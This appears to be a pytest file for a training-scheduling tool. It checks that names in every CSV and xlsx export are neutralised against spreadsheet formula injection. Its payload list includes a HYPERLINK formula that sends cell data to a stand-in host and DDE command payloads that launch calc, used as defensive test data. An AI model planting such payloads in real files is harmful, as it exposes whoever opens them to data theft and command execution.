"""Reliability (issue 6): names from the instance never run as formulas in a spreadsheet.

An instance whose every free-text field (site name, city, region, trainer,
course and holiday names, topic labels, school zones) begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is solved, exported in every
format and written as a template; every CSV cell and every xlsx cell is then
read back. No xlsx cell may be a formula, and no CSV cell may begin with a
formula character unless it is a plain number (ids cannot begin with one:
their grammar is ``[A-Za-z0-9][A-Za-z0-9_.-]*``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from rollout.cli import cli
from tests.conftest import INSTANCES

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile_instance() -> dict[str, Any]:
    """The tiny sample with a formula at the start of every free-text field, and one cohort left out."""
    data = yaml.safe_load((INSTANCES / "tiny.yaml").read_text(encoding="utf-8"))
    payload = cycle(PAYLOADS)
    data["topics"] = {k: next(payload) for k in data["topics"]}
    for course in data["courses"]:
        course["name"] = next(payload)
    for site in data["sites"]:
        site.update(name=next(payload), city=next(payload), region=next(payload), school_zone="=Z")
    for trainer in data["trainers"]:
        trainer["name"] = next(payload)
    data["school_holidays"] = [{**h, "zone": "=Z", "name": next(payload)} for h in data["school_holidays"]]
    data["settings"]["partial"] = True  # a cohort too large for any room: unscheduled.csv has a row
    data["cohorts"].append({**data["cohorts"][-1], "id": "too-big", "learners": 999})
    return data


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Every file a coordinator may open: solution folder, every export, the template (xlsx and CSV)."""
    root = tmp_path_factory.mktemp("injection")
    source = root / "hostile.yaml"
    source.write_text(yaml.safe_dump(hostile_instance(), allow_unicode=True), encoding="utf-8")
    runner = CliRunner()
    solve = [
        "solve",
        str(source),
        "-o",
        str(root / "plan"),
        "--solver",
        "greedy",
        "-q",
        "--workers",
        "1",
        "--seed",
        "1",
    ]
    for args in (
        solve,
        ["export", str(root / "plan"), "--to", "all", "-o", str(root / "exports"), "--instance", str(source)],
        [
            "export",
            str(root / "plan"),
            "--to",
            "csv",
            "--excel-fr",
            "-o",
            str(root / "excel-fr"),
            "--instance",
            str(source),
        ],
        ["template", str(root / "template.xlsx"), "--from", str(source)],
        ["template", str(root / "template-csv"), "--from", str(source)],
    ):
        result = runner.invoke(cli, args)
        assert result.exit_code == 0, (args[0], result.output)
    return root


def csv_cells(path: Path) -> Iterator[tuple[int, str]]:
    text = path.read_text(encoding="utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    for number, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter), start=1):
        for cell in row:
            yield number, cell


def is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return False
    return True


def test_the_hostile_plan_is_valid_and_names_reach_the_files(written: Path) -> None:
    """Tests that the solve planned the hostile instance and its names are in the exported cells."""
    assert (
        CliRunner().invoke(cli, ["check", str(written / "hostile.yaml"), str(written / "plan")]).exit_code
        == 0
    )
    cells = {c for p in written.rglob("*.csv") for _, c in csv_cells(p)}
    assert "'" + PAYLOADS[0] in cells  # neutralised, not dropped
    assert len(list(written.rglob("*.csv"))) >= 5 and len(list(written.rglob("*.xlsx"))) >= 2


def test_no_csv_cell_starts_with_a_formula_character(written: Path) -> None:
    """Tests that every cell of every CSV written (plan, exports, template) is neutralised or a number."""
    files = sorted(written.rglob("*.csv"))
    bad = [
        f"{p.relative_to(written)}:{line}: {cell!r}"
        for p in files
        for line, cell in csv_cells(p)
        if cell.startswith(FORMULA_START) and not is_number(cell)
    ]
    assert not bad, bad


def test_pandas_reads_no_formula_either(written: Path) -> None:
    """Tests that the timetable read by pandas, as coordinators do, holds no cell starting like a formula."""
    frame = pd.read_csv(written / "plan" / "timetable.csv", dtype=str, keep_default_na=False)
    texts = frame.to_numpy().ravel().tolist()
    assert any(t.startswith("'=") for t in texts)
    assert not [t for t in texts if t.startswith(FORMULA_START) and not is_number(t)]


def test_no_xlsx_cell_is_a_formula(written: Path) -> None:
    """Tests that no cell of any workbook written (plan workbook, template) is a formula."""
    books = sorted(written.rglob("*.xlsx"))
    formulas = [
        f"{p.name}!{ws.title}!{cell.coordinate}: {cell.value!r}"
        for p in books
        for ws in openpyxl.load_workbook(p).worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not formulas, formulas


def test_the_template_reads_back_the_hostile_names_unchanged(written: Path) -> None:
    """Tests that neutralising keeps the names: rollout import of the template gives the same instance."""
    runner = CliRunner()
    for source in ("template.xlsx", "template-csv"):
        target = written / f"imported-{source}.yaml"
        result = runner.invoke(cli, ["import", str(written / source), "-o", str(target)])
        assert result.exit_code == 0, result.output
        back = yaml.safe_load(target.read_text(encoding="utf-8"))
        original = hostile_instance()
        assert back["topics"] == original["topics"]
        assert [t["name"] for t in back["trainers"]] == [t["name"] for t in original["trainers"]]
